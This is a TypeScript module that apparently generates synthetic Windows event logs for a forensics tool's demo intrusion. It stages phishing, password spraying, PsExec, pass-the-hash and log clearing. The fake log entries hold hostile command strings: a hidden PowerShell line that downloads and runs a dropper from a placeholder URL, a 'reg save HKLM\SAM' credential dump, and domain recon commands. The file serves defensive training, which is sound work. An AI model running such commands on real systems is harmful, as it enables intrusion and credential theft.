/** The demo's Windows event logs, written with konseki's own EVTX writer. */
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { writeEvtx, type WriteEvent } from '../sources/evtx/writer.ts';
import { at, DOMAIN, DROPPER_URL, HOSTS, rng } from './story.ts';

const SECURITY = {
  provider: 'Microsoft-Windows-Security-Auditing',
  providerGuid: '{54849625-5478-4994-A5BA-3E3B0328C30D}',
  channel: 'Security',
  keywords: 0x8020000000000000n,
};
const SCM = {
  provider: 'Service Control Manager',
  providerGuid: '{555908d1-a6d7-4695-8e1e-26931d2012f4}',
  channel: 'System',
  qualifiers: 16384,
  keywords: 0x8080000000000000n,
};
const DEFENDER = {
  provider: 'Microsoft-Windows-Windows Defender',
  providerGuid: '{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}',
  channel: 'Microsoft-Windows-Windows Defender/Operational',
  keywords: 0x8000000000000000n,
};
const EVENTLOG = {
  provider: 'Microsoft-Windows-Eventlog',
  providerGuid: '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}',
  channel: 'Security',
  keywords: 0x4020000000000000n,
};

const SID_SYSTEM = 'S-1-5-18';
const userSid = (rid: number): string => `S-1-5-21-3623811015-3361044348-30300820-${rid}`;
const LOGON_GUID = '{00000000-0000-0000-0000-000000000000}';

type Sec = Omit<WriteEvent, 'provider' | 'providerGuid' | 'channel' | 'computer'>;

function logon(
  time: number,
  type: number,
  user: string,
  ip: string,
  ws: string,
  pkg: 'Kerberos' | 'NTLM' | 'Negotiate',
  extra: Partial<{ keyLength: number; process: string; logonId: string; lm: string }> = {},
): Sec {
  return {
    eventId: 4624,
    version: 2,
    task: 12544,
    time,
    processId: 648,
    threadId: 1720,
    eventData: {
      SubjectUserSid: { type: 'sid', value: type === 3 ? 'S-1-0-0' : SID_SYSTEM },
      SubjectUserName: type === 3 ? '-' : 'PC$',
      SubjectDomainName: type === 3 ? '-' : DOMAIN,
      SubjectLogonId: { type: 'hex64', value: type === 3 ? 0 : 0x3e7 },
      TargetUserSid: { type: 'sid', value: userSid(1100) },
      TargetUserName: user,
      TargetDomainName: DOMAIN,
      TargetLogonId: { type: 'hex64', value: Number.parseInt(extra.logonId ?? '5a3f1c', 16) },
      LogonType: { type: 'uint32', value: type },
      LogonProcessName: pkg === 'NTLM' ? 'NtLmSsp ' : type === 2 ? 'User32 ' : 'Kerberos',
      AuthenticationPackageName: pkg,
      WorkstationName: ws,
      LogonGuid: { type: 'guid', value: LOGON_GUID },
      TransmittedServices: '-',
      LmPackageName: extra.lm ?? (pkg === 'NTLM' ? 'NTLM V2' : '-'),
      KeyLength: { type: 'uint32', value: extra.keyLength ?? (pkg === 'NTLM' ? 128 : 0) },
      ProcessId: { type: 'hex64', value: type === 3 ? 0 : 0x2c4 },
      ProcessName: extra.process ?? (type === 3 ? '-' : 'C:\\Windows\\System32\\svchost.exe'),
      IpAddress: ip,
      IpPort: type === 3 ? '49822' : '0',
      ImpersonationLevel: '%%1833',
      RestrictedAdminMode: '-',
      TargetOutboundUserName: '-',
      TargetOutboundDomainName: '-',
      VirtualAccount: '%%1843',
      TargetLinkedLogonId: { type: 'hex64', value: 0 },
      ElevatedToken: '%%1842',
    },
  };
}

function failedLogon(time: number, user: string, ip: string, ws: string, status: number, sub: number): Sec {
  return {
    eventId: 4625,
    task: 12544,
    time,
    processId: 648,
    threadId: 3012,
    keywords: 0x8010000000000000n,
    eventData: {
      SubjectUserSid: { type: 'sid', value: 'S-1-0-0' },
      SubjectUserName: '-',
      SubjectDomainName: '-',
      SubjectLogonId: { type: 'hex64', value: 0 },
      TargetUserSid: { type: 'sid', value: 'S-1-0-0' },
      TargetUserName: user,
      TargetDomainName: DOMAIN,
      Status: { type: 'hex32', value: status },
      FailureReason: '%%2313',
      SubStatus: { type: 'hex32', value: sub },
      LogonType: { type: 'uint32', value: 3 },
      LogonProcessName: 'NtLmSsp ',
      AuthenticationPackageName: 'NTLM',
      WorkstationName: ws,
      TransmittedServices: '-',
      LmPackageName: '-',
      KeyLength: { type: 'uint32', value: 0 },
      ProcessId: { type: 'hex64', value: 0 },
      ProcessName: '-',
      IpAddress: ip,
      IpPort: '50113',
    },
  };
}

function process4688(
  time: number,
  user: string,
  image: string,
  cmd: string,
  parent: string,
  pid: number,
  ppid: number,
): Sec {
  return {
    eventId: 4688,
    version: 2,
    task: 13312,
    time,
    processId: 4,
    threadId: 7340,
    eventData: {
      SubjectUserSid: { type: 'sid', value: userSid(1105) },
      SubjectUserName: user,
      SubjectDomainName: DOMAIN,
      SubjectLogonId: { type: 'hex64', value: 0x5a3f1c },
      NewProcessId: { type: 'hex64', value: pid },
      NewProcessName: image,
      TokenElevationType: '%%1938',
      ProcessId: { type: 'hex64', value: ppid },
      CommandLine: cmd,
      TargetUserSid: { type: 'sid', value: 'S-1-0-0' },
      TargetUserName: '-',
      TargetDomainName: '-',
      TargetLogonId: { type: 'hex64', value: 0 },
      ParentProcessName: parent,
      MandatoryLabel: { type: 'sid', value: 'S-1-16-8192' },
    },
  };
}

function withSource(src: typeof SECURITY, computer: string, events: Sec[], firstId: number): WriteEvent[] {
  return events
    .sort((a, b) => a.time - b.time)
    .map((e, i) => ({ ...src, ...e, keywords: e.keywords ?? src.keywords, computer, recordId: firstId + i }));
}

function pc1(): { security: WriteEvent[]; defender: WriteEvent[] } {
  const h = HOSTS.pc1;
  const sec: Sec[] = [
    logon(at('08:52:10'), 2, h.user, '127.0.0.1', h.short, 'Negotiate', {
      process: 'C:\\Windows\\System32\\svchost.exe',
    }),
    process4688(
      at('09:41:07'),
      h.user,
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\tanaka\\Downloads\\請求書_10月.docm"',
      'C:\\Windows\\explorer.exe',
      0x1a2c,
      0x10f0,
    ),
    process4688(
      at('09:41:22'),
      h.user,
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      `powershell.exe -nop -w hidden -c "iwr ${DROPPER_URL} -OutFile $env:TEMP\\invoice.exe; & $env:TEMP\\invoice.exe"`,
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      0x1b40,
      0x1a2c,
    ),
    process4688(
      at('09:41:30'),
      h.user,
      'C:\\Users\\tanaka\\AppData\\Local\\Temp\\invoice.exe',
      'C:\\Users\\tanaka\\AppData\\Local\\Temp\\invoice.exe',
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      0x1c08,
      0x1b40,
    ),
    process4688(
      at('10:02:15'),
      h.user,
      'C:\\Windows\\System32\\cmd.exe',
      'cmd.exe /c whoami /all & net group "Domain Admins" /domain & nltest /dclist:corp',
      'C:\\Users\\tanaka\\AppData\\Local\\Temp\\invoice.exe',
      0x1d10,
      0x1c08,
    ),
    {
      eventId: 4648,
      task: 12544,
      time: at('10:21:40'),
      processId: 648,
      threadId: 2204,
      eventData: {
        SubjectUserSid: { type: 'sid', value: userSid(1105) },
        SubjectUserName: h.user,
        SubjectDomainName: DOMAIN,
        SubjectLogonId: { type: 'hex64', value: 0x5a3f1c },
        LogonGuid: { type: 'guid', value: LOGON_GUID },
        TargetUserName: HOSTS.fs.user,
        TargetDomainName: DOMAIN,
        TargetLogonGuid: { type: 'guid', value: LOGON_GUID },
        TargetServerName: HOSTS.fs.short,
        TargetInfo: HOSTS.fs.short,
        ProcessId: { type: 'hex64', value: 0x1c08 },
        ProcessName: 'C:\\Users\\tanaka\\AppData\\Local\\Temp\\invoice.exe',
        // Network Address of 4648: the server the credentials were used for
        IpAddress: HOSTS.fs.ip,
        IpPort: '445',
      },
    },
  ];
  // the attacker clears the Security log at night: everything before it on this host is what survived
  const cleared: WriteEvent = {
    ...EVENTLOG,
    eventId: 1102,
    task: 104,
    time: at('23:58:02'),
    computer: h.name,
    processId: 1124,
    threadId: 4480,
    userData: {
      name: 'LogFileCleared',
      attrs: { xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' },
      children: [
        { name: 'SubjectUserSid', value: { type: 'sid', value: userSid(1105) } },
        { name: 'SubjectUserName', value: h.user },
        { name: 'SubjectDomainName', value: DOMAIN },
        { name: 'SubjectLogonId', value: { type: 'hex64', value: 0x5a3f1c } },
      ],
    },
  };
  const security = [...withSource(SECURITY, h.name, sec, 48211), { ...cleared, recordId: 48211 + sec.length + 3 }];
  const defender: WriteEvent[] = withSource(
    DEFENDER,
    h.name,
    [
      {
        eventId: 1116,
        task: 0,
        level: 3,
        time: at('09:41:33'),
        processId: 3320,
        threadId: 5120,
        eventData: {
          'Product Name': '%%827',
          'Product Version': '4.18.24090.11',
          'Detection ID': '{B2D9A1C4-0E5F-4C1B-9D7E-3F1A2B4C5D6E}',
          'Detection Time': '2026-10-14T00:41:33.120Z',
          'Threat ID': '2147735503',
          'Threat Name': 'Trojan:Win32/Demoloader.A',
          'Severity ID': '5',
          'Severity Name': 'Severe',
          'Category ID': '8',
          'Category Name': 'Trojan',
          FWLink: 'https://go.microsoft.com/fwlink/?linkid=37020&name=Trojan:Win32/Demoloader.A',
          'Status Code': '1',
          State: '1',
          'Source ID': '3',
          'Source Name': '%%819',
          'Process Name': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          'Detection User': `${DOMAIN}\\${h.user}`,
          Path: 'file:_C:\\Users\\tanaka\\AppData\\Local\\Temp\\invoice.exe',
          'Origin ID': '1',
          'Origin Name': '%%845',
          'Execution ID': '1',
          'Execution Name': '%%813',
          'Type ID': '0',
          'Type Name': '%%822',
          'Action ID': '9',
          'Action Name': '%%887',
          'Error Code': '0x80508023',
          'Error Description':
            'The program could not find the malware and other potentially unwanted software on this device.',
        },
      },
      {
        eventId: 5001,
        task: 0,
        level: 4,
        time: at('09:44:05'),
        processId: 3320,
        threadId: 5120,
        eventData: { 'Product Name': '%%827', 'Product Version': '4.18.24090.11' },
      },
    ],
    1201,
  );
  return { security, defender };
}

function fs01(): { security: WriteEvent[]; system: WriteEvent[] } {
  const r = rng(7);
  const pc = HOSTS.pc1;
  const users = [
    'administrator',
    'admin',
    'clientadmin01',
    'suzuki',
    'yamada',
    'sato',
    'backup',
    'svc_sql',
    'svc_backup',
    'test',
    'guest',
    'itadmin',
  ];
  const sec: Sec[] = [];
  let t = at('10:05:00');
  for (let round = 0; round < 3; round++) {
    for (const u of users) {
      t += 2_000_000 + Math.floor(r() * 3_000_000);
      if (round === 2 && u === 'svc_backup') break;
      const known = !['admin', 'clientadmin01', 'backup', 'test', 'itadmin'].includes(u);
      sec.push(failedLogon(t, u, pc.ip, pc.short, 0xc000006d, known ? 0xc000006a : 0xc0000064));
    }
  }
  sec.push(logon(t + 4_000_000, 3, HOSTS.fs.user, pc.ip, pc.short, 'NTLM', { logonId: '7c2e91' }));
  sec.push({
    eventId: 4672,
    task: 12548,
    time: t + 4_000_100,
    processId: 648,
    threadId: 1720,
    eventData: {
      SubjectUserSid: { type: 'sid', value: userSid(1300) },
      SubjectUserName: HOSTS.fs.user,
      SubjectDomainName: DOMAIN,
      SubjectLogonId: { type: 'hex64', value: 0x7c2e91 },
      PrivilegeList:
        'SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeImpersonatePrivilege',
    },
  });
  // normal morning logons of staff
  for (const [i, u] of ['yamada', 'sato'].entries())
    sec.push(logon(at(`08:3${i}:00`), 3, u, `10.10.1.${30 + i}`, `PC-OFFICE${i}`, 'Kerberos'));
  sec.push(logon(at('08:52:40'), 3, HOSTS.pc2.user, HOSTS.pc2.ip, HOSTS.pc2.short, 'Kerberos'));
  const system: WriteEvent[] = withSource(
    SCM,
    HOSTS.fs.name,
    [
      {
        eventId: 7045,
        task: 0,
        level: 4,
        time: at('10:24:51'),
        processId: 640,
        threadId: 2188,
        userSid: userSid(1300),
        eventData: {
          ServiceName: 'PSEXESVC',
          ImagePath: '%SystemRoot%\\PSEXESVC.exe',
          ServiceType: 'user mode service',
          StartType: 'demand start',
          AccountName: 'LocalSystem',
        },
      },
    ],
    9120,
  );
  // the daily uptime event carries the Windows time zone (a Japanese Windows names it in Japanese)
  system.push({
    provider: 'EventLog',
    channel: 'System',
    qualifiers: 32768,
    keywords: 0x80000000000000n,
    computer: HOSTS.fs.name,
    recordId: 9121,
    eventId: 6013,
    task: 0,
    level: 4,
    time: at('12:00:00'),
    processId: 0,
    threadId: 0,
    eventData: ['', '', '', '', '86410', '60', '-540 東京 (標準時)'].map((value) => ({ value })),
  });
  return { security: withSource(SECURITY, HOSTS.fs.name, sec, 733104), system };
}

function pc2(): WriteEvent[] {
  // pass-the-hash from PC-SALES01: NTLM network logon of the local Administrator with no session key
  const sec: Sec[] = [
    logon(at('08:47:31'), 2, HOSTS.pc2.user, '127.0.0.1', HOSTS.pc2.short, 'Negotiate'),
    {
      ...logon(at('10:31:12'), 3, 'Administrator', HOSTS.pc1.ip, HOSTS.pc1.short, 'NTLM', {
        keyLength: 0,
        logonId: '91aa03',
      }),
    },
    process4688(
      at('10:31:20'),
      'Administrator',
      'C:\\Windows\\System32\\cmd.exe',
      'cmd.exe /c reg save HKLM\\SAM C:\\Users\\Public\\s.hiv',
      'C:\\Windows\\PSEXESVC.exe',
      0x0b24,
      0x0a10,
    ),
  ];
  return withSource(SECURITY, HOSTS.pc2.name, sec, 30777);
}

/** Writes the demo's .evtx files under `dir`; returns their paths. */
export function writeWindowsEvidence(dir: string): string[] {
  const out: string[] = [];
  const put = (host: string, file: string, events: WriteEvent[]): void => {
    mkdirSync(join(dir, host), { recursive: true });
    const p = join(dir, host, file);
    writeEvtx(p, events);
    out.push(p);
  };
  const a = pc1();
  put(HOSTS.pc1.short, 'Security.evtx', a.security);
  put(HOSTS.pc1.short, 'Microsoft-Windows-Windows Defender%4Operational.evtx', a.defender);
  const f = fs01();
  put(HOSTS.fs.short, 'Security.evtx', f.security);
  put(HOSTS.fs.short, 'System.evtx', f.system);
  put(HOSTS.pc2.short, 'Security.evtx', pc2());
  return out;
}
